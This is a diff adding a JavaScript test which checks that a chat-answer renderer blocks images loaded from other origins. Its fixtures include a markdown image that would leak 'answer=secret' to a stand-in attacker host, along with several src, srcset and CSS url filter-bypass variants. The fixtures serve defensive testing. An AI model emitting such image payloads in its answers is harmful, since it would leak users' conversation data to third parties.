@@ -60,6 +60,33 @@ test('event handlers, scripts and javascript: links in an answer are removed', (
   assert.equal(image.getAttribute('onerror'), null);
 });
 
+test('images from other origins are not loaded; data: images and this origin\'s are', () => {
+  const remote = [
+    '![tracker](https://evil.example/p.png?answer=secret)',
+    '<img src="http://evil.example/p.png">',
+    '<img src="//evil.example/p.png">',
+    '<img src="/\\evil.example/p.png">',
+    '<img src=" HTTPS://evil.example/p.png">',
+    '<img src="ht\ttps://evil.example/p.png">',
+    '<img src="/assets/img/favicon.svg" srcset="https://evil.example/p.png 2x">',
+    '<p style="background: url(https://evil.example/p.png)">x</p>',
+  ];
+  for (const html of remote) {
+    const root = dom(render(html));
+    for (const node of root.querySelectorAll('*')) {
+      for (const attribute of node.attributes) {
+        assert.ok(!/evil\.example/.test(attribute.value), `${attribute.name}="${attribute.value}" from ${html}`);
+      }
+    }
+  }
+  assert.equal(dom(render('![alt text](https://evil.example/p.png)')).querySelector('img').getAttribute('alt'),
+    'alt text', 'the image stays as its alt text');
+
+  const local = dom(render('![icon](/assets/img/favicon.svg) ![dot](data:image/png;base64,iVBORw0KGgo=)'));
+  assert.deepEqual([...local.querySelectorAll('img')].map((image) => image.getAttribute('src')),
+    ['/assets/img/favicon.svg', 'data:image/png;base64,iVBORw0KGgo=']);
+});
+
 test('links open in a new tab without access to the page', () => {
   const link = dom(render('[LLM-jp](https://llm-jp.nii.ac.jp/)')).querySelector('a');
   assert.equal(link.getAttribute('href'), 'https://llm-jp.nii.ac.jp/');
